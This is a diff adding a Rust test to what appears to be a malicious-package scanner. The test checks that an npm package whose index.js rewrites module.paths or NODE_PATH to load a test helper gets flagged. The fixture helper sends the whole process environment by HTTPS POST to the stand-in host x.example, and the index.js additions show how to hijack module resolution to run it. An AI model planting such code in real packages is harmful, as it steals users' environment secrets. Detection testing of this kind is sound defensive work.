@@ -2990,6 +2990,47 @@ fn a_require_of_a_test_module_by_any_name_makes_the_tests_the_package_s_own() {
     }
 }
 
+/// Node's `sys.path`: a write to `module.paths` (or `NODE_PATH`) makes a
+/// bare `require('helper')` load the tests' `helper.js`. is-number whose
+/// `index.js` did so, the environment sent from that helper, was allowed
+/// by every rule (session 34; vetoed at 0.011 under the shipped
+/// thresholds); the same helper that nothing can load still is.
+#[test]
+fn a_write_to_node_s_module_paths_makes_the_tests_the_package_s_own() {
+    let c = Canary::new();
+    let lax = lax_config(&c);
+    let helper: &[u8] = b"require('https').request({ host: 'x.example', method: 'POST' })\n\
+        .end(JSON.stringify(process.env));\nmodule.exports = () => 1;\n";
+    let at = "package/test/helper.js";
+    let plain = is_number_with_all(&c, "plain.tgz", &[(at, helper)]);
+    let (o, r) = scan_path_json_under(&c, &lax, &plain);
+    assert_reason(&o, &r, (0, "precheck-harmless"));
+    let index = tgz_member("packages/benign/is-number-7.0.0.tgz", "package/index.js");
+    for (name, write) in [
+        (
+            "paths.tgz",
+            "module.paths.unshift(require('path').join(__dirname, 'test'));",
+        ),
+        (
+            "node-path.tgz",
+            "process.env.NODE_PATH = __dirname + '/test'; require('module')._initPaths();",
+        ),
+    ] {
+        let mut opened = index.clone();
+        opened.extend_from_slice(format!("\n{write}\nrequire('helper')();\n").as_bytes());
+        let p = is_number_with_all(&c, name, &[(at, helper), ("package/index.js", &opened)]);
+        let (o, r) = scan_path_json_under(&c, &lax, &p);
+        assert_reason(&o, &r, (2, "inconclusive"));
+        let note = r["policies"][0]["precheck"]["note"].as_str().unwrap();
+        for named in [
+            format!("{at}:2"),
+            "importable (package/index.js:".to_string(),
+        ] {
+            assert!(note.contains(&named), "{name}: {named} in {note}");
+        }
+    }
+}
+
 /// Node runs a `package.json`'s `main`, `bin` and `exports` when the
 /// package is used, so an entry point in the tests makes its lines the
 /// package's own: is-number whose `main`, `bin` or `exports` named
